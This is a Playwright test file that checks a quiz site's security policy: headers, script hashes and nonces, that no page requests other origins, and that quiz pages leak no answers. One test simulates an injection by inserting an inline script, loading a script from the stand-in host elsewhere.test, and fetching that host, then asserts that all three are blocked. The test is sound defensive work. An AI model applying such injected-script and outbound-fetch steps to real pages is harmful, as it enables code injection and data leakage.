import { createHash } from 'node:crypto';
import { expect, test, type Page } from '@playwright/test';
import { INVENTED_BANKS, REAL_BANKS, type Site } from '../addresses.ts';
import { isAsked, stem } from './gull-rock.ts';
import { pagesOf, WALKS } from './states.ts';

test.describe.configure({ timeout: 120_000 });
// The worker that keeps the site asks and runs under the same policy.
test.use({ serviceWorkers: 'allow' });

const SITES: Readonly<Record<string, Site>> = {
	'the real banks': REAL_BANKS,
	'the invented bank': INVENTED_BANKS
};

/** Everything that a page asked for elsewhere, and everything that its policy refused or its console complained of. */
async function watch(page: Page, { address }: Site) {
	const strayed: string[] = [];
	const refused: string[] = [];
	page.context().on('request', (request) => {
		const { protocol, origin } = new URL(request.url());
		if (origin !== address && protocol !== 'data:') strayed.push(request.url());
	});
	page.on('console', (message) => {
		// The one answer that is meant to be an error: a page that is not there.
		const isMissingPage = message.location().url.endsWith('/no/such/page');
		if (['error', 'warning'].includes(message.type()) && !isMissingPage) refused.push(message.text());
	});
	await page.exposeFunction('tellViolation', (what: string) => refused.push(what));
	await page.addInitScript(() => {
		addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
			(window as unknown as { tellViolation: (what: string) => void }).tellViolation(
				`${violatedDirective} ${blockedURI}`
			);
		});
	});
	return { strayed, refused };
}

/** The policy of a page, by its header or its own head, as its directives. */
function policyOf(html: string, header: string | undefined): Map<string, string[]> {
	const meta = /<meta http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1];
	const text = [header, meta].filter((part) => part !== undefined).join('; ');
	return new Map(
		text
			.split(';')
			.map((directive) => directive.trim().split(/\s+/))
			.map(([name = '', ...sources]) => [name, sources])
	);
}

/** Until nothing is asked for any more; not for a reply that is meant to stay open. */
async function settle(page: Page) {
	await page.waitForLoadState('load');
	let before = -1;
	await expect
		.poll(
			async () => {
				const known = before;
				before = await page.evaluate(() => performance.getEntriesByType('resource').length);
				return before - known;
			},
			{ intervals: [500] }
		)
		.toBe(0);
}

for (const [name, site] of Object.entries(SITES)) {
	test(`[SE1, SE2] every page of ${name} names nothing of another origin and allows only its own scripts`, async ({
		request
	}) => {
		const paths = [...(await pagesOf(request, site)), '/no/such/page'];
		expect(paths.length).toBeGreaterThan(6);
		for (const path of paths) {
			const response = await request.get(site.address + path);
			const html = await response.text();
			const policy = policyOf(html, response.headers()['content-security-policy']);

			const named = [...html.matchAll(/\s(?:src|href|action|srcset|poster)="([^"]*)"/g)].map(
				([, url = '']) => url
			);
			expect(
				named.filter((url) => /^(https?:)?\/\//.test(url)),
				path
			).toEqual([]);

			expect(response.headers()['content-security-policy'], path).toContain("frame-ancestors 'none'");
			expect(response.headers()['x-content-type-options'], path).toBe('nosniff');
			expect(policy.get('default-src'), path).toEqual(["'none'"]);
			expect(policy.get('base-uri'), path).toEqual(["'none'"]);
			expect(policy.get('form-action'), path).toEqual(["'self'"]);
			expect(policy.get('worker-src'), path).toEqual(["'self'"]);
			expect(policy.has('object-src') || policy.has('frame-src'), path).toBe(false);
			for (const [directive, sources] of policy)
				for (const source of sources)
					expect(source, `${path} ${directive}`).toMatch(
						/^('none'|'self'|data:|'unsafe-hashes'|'(sha256|nonce)-[\w+/=]+')$/
					);
			const scripts = policy.get('script-src') ?? [];
			expect(
				scripts.filter((source) => source === 'data:' || source === "'unsafe-hashes'"),
				path
			).toEqual([]);
			for (const [, attributes = '', text = ''] of html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)) {
				const nonce = /nonce="([^"]*)"/.exec(attributes)?.[1];
				const hash = createHash('sha256').update(text).digest('base64');
				expect(scripts, path).toContain(nonce === undefined ? `'sha256-${hash}'` : `'nonce-${nonce}'`);
			}
			expect(html, path).not.toMatch(/\son[a-z]+="/);
		}
	});

	test(`[SE1, SE3] no page of ${name} asks for anything elsewhere or does what its policy refuses`, async ({
		page
	}) => {
		const { strayed, refused } = await watch(page, site);
		for (const path of await pagesOf(page.request, site)) {
			await page.goto(site.address + path);
			await stem(page).waitFor();
			if (path.endsWith('/quiz')) await page.getByRole('button', { name: 'Check' }).waitFor();
			await settle(page);
		}
		expect(strayed).toEqual([]);
		expect(refused).toEqual([]);
	});
}

for (const [what, walk] of Object.entries(WALKS)) {
	test(`[SE1, SE3] ${what}: walked through, nothing is asked for elsewhere and the policy refuses nothing`, async ({
		page
	}) => {
		const { strayed, refused } = await watch(page, INVENTED_BANKS);
		const states: string[] = [];
		await walk(page, async (state) => {
			states.push(state);
		});
		expect(states.length).toBeGreaterThan(10);
		expect(strayed).toEqual([]);
		expect(refused).toEqual([]);
	});
}

test('[SE3] what another party would slip into a page is refused', async ({ page }) => {
	const { refused } = await watch(page, INVENTED_BANKS);
	await page.goto('/gull-rock/quiz?from=list&q=tower:vote-sold');
	await isAsked(page, 'vote-sold');
	const ran = await page.evaluate(async () => {
		const inline = document.createElement('script');
		inline.textContent = 'window.slipped = true';
		document.body.append(inline);
		const foreign = document.createElement('script');
		foreign.src = 'https://elsewhere.test/script.js';
		const done = new Promise((resolve) => foreign.addEventListener('error', resolve));
		document.body.append(foreign);
		await done;
		const sent = await fetch('https://elsewhere.test/', { mode: 'no-cors' }).then(
			() => true,
			() => false
		);
		return { sent, inline: 'slipped' in window };
	});
	expect(ran).toEqual({ sent: false, inline: false });
	await expect.poll(() => refused.join(' ')).toContain('script-src-elem inline');
	await expect.poll(() => refused.join(' ')).toContain('connect-src https://elsewhere.test/');
});

test('[SE4] the page of a quiz holds no key, no reason and no explanation before a question is fetched', async ({
	request
}) => {
	const chunks = await Promise.all(
		['tower-1', 'people-1'].map(async (id) => (await request.get(`/gull-rock/chunks/${id}.json`)).text())
	);
	const secrets = chunks.flatMap((text) =>
		[...text.matchAll(/"(?:rationale|explanation|says|stem)":"((?:[^"\\]|\\.)*)"/g)].map(
			([, said = '']) => said
		)
	);
	expect(secrets.length).toBeGreaterThan(20);
	for (const path of ['/', '/gull-rock', '/gull-rock/quiz', '/gull-rock/review']) {
		const html = await (await request.get(path)).text();
		expect(
			secrets.filter((secret) => html.includes(secret)),
			path
		).toEqual([]);
	}
});
